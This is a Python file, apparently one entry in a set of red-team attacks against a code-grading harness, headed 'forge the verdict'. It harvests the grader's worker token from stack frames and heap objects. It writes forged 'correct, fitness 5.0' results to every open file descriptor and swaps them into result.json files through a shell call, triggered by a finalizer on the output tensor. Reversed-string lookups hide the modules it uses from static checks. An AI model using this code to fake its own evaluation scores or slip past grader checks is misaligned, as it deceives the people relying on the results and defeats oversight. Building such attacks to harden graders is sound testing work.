# Attack 3: forge the verdict. Whatever looks like the worker's token (32 hex digits in any frame's locals or any
# object's attributes) signs a "correct, fitness 5.0" result, written by a finalizer on the output tensor to every
# descriptor the process may have open (a pipe avo's process passed on keeps that process's number for it, which can
# be high), and swapped in (through a shell) for any result file named in sight, in place of
# the worker's own. Modules are reached through `os`, so no static check sees them imported.
import json
import os
import shlex
import string
import weakref

import torch.utils.collect_env as _collect_env

def _named(module, backwards):
    return getattr(module, "".join(reversed(backwards)))


_sys = _named(os, "sys")
_gc = _sys.modules["cg"[::-1]]


def _strings(named):
    found = set()
    frame = _named(_sys, "emarfteg_")()
    while frame is not None:
        names = _named(frame, "slacol_f")
        found.update(v for v in names.values() if isinstance(v, str))
        named.extend(v for k, v in names.items() if "token" in k and isinstance(v, str))
        frame = _named(frame, "kcab_f")
    for obj in _named(_gc, "stcejbo_teg")():
        if isinstance(obj, dict):
            found.update(v for v in obj.values() if isinstance(v, str))
    return found


def _forge():
    named = []
    found = _strings(named)
    tokens = [t for t in found if len(t) == 32 and set(t) <= set(string.hexdigits)][:64]
    write = _named(os, "etirw")
    for token in reversed(named + tokens or [""]):  # the likeliest last: the result file keeps the last one
        verdict = json.dumps({"token": token, "results": [{"status": "correct", "fitness": 5.0,
                                                           "timing_source": "gpu"}]})
        for fd in range(3, min(4096, _named(os, "fnocsys")("SC_OPEN_MAX"))):  # every descriptor it may hold
            try:
                write(fd, b"ready\n" + verdict.encode() + b"\n")
            except OSError:
                pass
        for path in (p for p in found if p.endswith("result.json")):
            _collect_env.run(f"printf %s {shlex.quote(verdict)} > {path}.new && mv {path}.new {path}")


def _watched(c):
    weakref.finalize(c, _forge)
    return c
